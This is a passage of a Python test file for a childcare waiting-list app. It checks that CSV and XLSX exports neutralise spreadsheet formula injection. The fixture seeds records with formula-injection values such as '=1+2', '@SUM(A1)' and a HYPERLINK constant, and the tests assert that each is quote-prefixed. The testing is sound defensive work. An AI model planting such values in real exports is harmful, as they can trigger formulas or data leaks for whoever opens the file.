    snapshot = {"declarations": {}, "care_plan": {"1": "full"}, "contact": {"phone": "=1+2", "postcode": "\r3020"},
                "child": {"first_name": HYPERLINK, "last_name": "-5"}}
    with tenant_scope(db.session, tenant):
        db.session.add_all([_row(location_id, minutes=1, snapshot=snapshot),
                            _row(location_id, minutes=2, first_name="@SUM(A1)", last_name="\tTab")])
    return _client_on(app, make_user("provider_staff", tenant=tenant, locations=[location_id]), tenant), tenant, \
        location_id


def test_the_csv_export_neutralises_every_formula(hostile_export):
    client, tenant, location_id = hostile_export
    response = client.get(f"/opvang/{location_id}/export.csv", base_url=host_url(tenant))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    assert re.fullmatch(r'attachment; filename="wachtlijst-[a-z0-9-]+-\d{8}\.csv"',
                        response.headers["Content-Disposition"])
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline=""),
                           delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HYPERLINK in cells and "'=1+2" in cells and "'-5" in cells and "'@SUM(A1)" in cells
    assert "'\tTab" in cells and "'\r3020" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [row[0] for row in rows[1:]] == ["1", "2"]  # positions are plain numbers


def test_the_xlsx_export_has_no_formula_and_keeps_the_text(hostile_export):
    from openpyxl import load_workbook

    client, tenant, location_id = hostile_export
    response = client.get(f"/opvang/{location_id}/export.xlsx", base_url=host_url(tenant))
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    by_value = {cell.value: cell for cell in cells}
    for text in (HYPERLINK, "=1+2", "-5", "@SUM(A1)", "\tTab"):  # (XML reads a CR back as LF)
        assert by_value[text].data_type == "s" and by_value[text].quotePrefix, text
    assert [sheet.cell(row=n, column=1).value for n in (2, 3)] == [1, 2]  # a real number stays a number
    assert sheet.cell(row=2, column=1).data_type == "n"


def test_export_headers_are_in_the_readers_language(hostile_export):
    client, tenant, location_id = hostile_export
    client.get("/lang/en", base_url=host_url(tenant))
    response = client.get(f"/opvang/{location_id}/export.csv", base_url=host_url(tenant))
    header = next(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    assert "voornaam" not in header and "first name" in header  # passes once the catalogs are merged


def test_every_cell_type_is_made_safe():
    from decimal import Decimal

    from regional_loket.web.exports import neutralise

    assert [neutralise(v) for v in (3, -2.5, Decimal("-1.5"), None, True, "Anna", "-5", " =x")] == [
        3, -2.5, Decimal("-1.5"), "", "True", "Anna", "'-5", " =x"]
